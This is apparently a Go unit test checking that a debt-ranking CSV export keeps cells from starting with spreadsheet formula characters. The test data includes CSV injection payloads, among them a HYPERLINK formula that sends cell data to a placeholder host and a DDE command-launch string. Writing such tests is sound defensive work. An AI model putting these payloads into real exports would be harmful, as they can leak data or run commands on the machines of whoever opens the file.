package advisory

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"
)

// TestWriteCSVNeutralisesFormulas checks that no cell of the debt export
// that carries text an organisation typed (its name, sector or province,
// which are both the key and the name of a row when ranking by sector or
// province) starts with a character a spreadsheet reads as a formula.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	evil := []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"}
	for _, by := range []string{ByOrg, BySector, ByProvince} {
		rep := DebtReport{At: time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC), By: by}
		for _, s := range evil {
			key := s
			if by == ByOrg {
				key = "0190f1a2-0000-7000-8000-000000000001" // an organisation's ID
			}
			rep.Ranking = append(rep.Ranking, Debt{Key: key, Name: s, Score: 1})
		}
		var buf bytes.Buffer
		if err := WriteCSV(&buf, rep); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != len(evil)+1 {
			t.Fatalf("by %s: %d rows, want %d", by, len(rows), len(evil)+1)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && (cell[0] == '=' || cell[0] == '+' || cell[0] == '@' || cell[0] == '\t' || cell[0] == '\r' ||
					cell[0] == '-' && i != 3) {
					t.Errorf("by %s: cell %d %q starts a formula", by, i, cell)
				}
			}
		}
	}
}
